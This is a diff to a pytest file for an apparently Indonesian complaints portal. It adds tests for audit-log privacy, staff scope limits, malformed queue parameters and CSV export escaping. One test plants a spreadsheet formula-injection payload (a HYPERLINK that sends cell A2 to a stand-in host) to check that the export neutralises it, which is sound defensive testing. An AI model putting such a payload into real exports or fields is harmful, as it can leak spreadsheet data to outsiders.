@@ -111,7 +111,8 @@ def test_unknown_user_and_wrong_password_get_the_same_message(app, world, client
     assert message in unknown.text and message in wrong.text
     with app.app_context():
         failures = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "masuk_gagal")).all()
-        assert sorted(e.username for e in failures) == ["desa.a", "siapa"]
+        # What was typed for an unknown user is not kept (it may be a password).
+        assert sorted(e.username for e in failures) == ["(tidak dikenal)", "desa.a"]
 
 
 def test_repeated_failures_lock_the_account_even_for_the_right_password(app, world, client):
@@ -288,3 +289,37 @@ def test_a_staff_nik_given_on_the_command_line_blocks_acting_on_own_complaints(a
     assert "Tidak ada perubahan status yang dapat Anda lakukan" in page
     refused = client.post(f"/staf/aduan/{world['inside']}/pindah", data={"to": "ditinjau", "version": "1"})
     assert refused.status_code == 400 and "menyangkut diri Anda sendiri" in refused.text
+
+
+def test_registry_matches_and_related_complaints_stay_inside_the_scope(app, session, vault, world, tmp_path):
+    from portal.services.registry_import import import_registry
+    from tests.conftest import TODAY, make_row, write_csv
+
+    far_away = make_row(7, desa=DESA_C, name="Orang Kupang")
+    import_registry(session, vault, write_csv(tmp_path / "r.csv", [far_away]), imported_by="t", period="2025-Q4",
+                    today=TODAY)
+    complaint = session.scalars(select(Complaint).where(Complaint.code == world["inside"])).one()
+    complaint.subject_nik_hash = vault.digest(far_away["nik"])  # a complaint naming a NIK registered elsewhere
+    session.commit()
+    session.close()
+    page = as_user(app, "desa.a").get(f"/staf/aduan/{world['inside']}").text
+    assert "Orang Kupang" not in page
+    assert "Orang Kupang" in as_user(app, "admin").get(f"/staf/aduan/{world['inside']}").text
+
+
+def test_export_neutralises_spreadsheet_formulas(app, session, world):
+    complaint = session.scalars(select(Complaint).where(Complaint.code == world["inside"])).one()
+    complaint.description = '=HYPERLINK("http://contoh.invalid/?"&A2,"Klik")'
+    session.commit()
+    session.close()
+    body = as_user(app, "desa.a").get("/staf/antrian.csv").data.decode("utf-8")
+    assert "'=HYPERLINK" in body
+
+
+@pytest.mark.parametrize("query", ["umur=1000000", "umur=²", "hal=²", "hal=-1", "status=terbang"])
+def test_odd_queue_parameters_never_give_a_500(app, world, query):
+    client = as_user(app, "desa.a")
+    assert client.get(f"/staf/antrian?{query}").status_code in (200, 400)
+    response = client.get(f"/staf/antrian.csv?{query}")
+    assert response.status_code in (200, 400)
+    response.get_data()
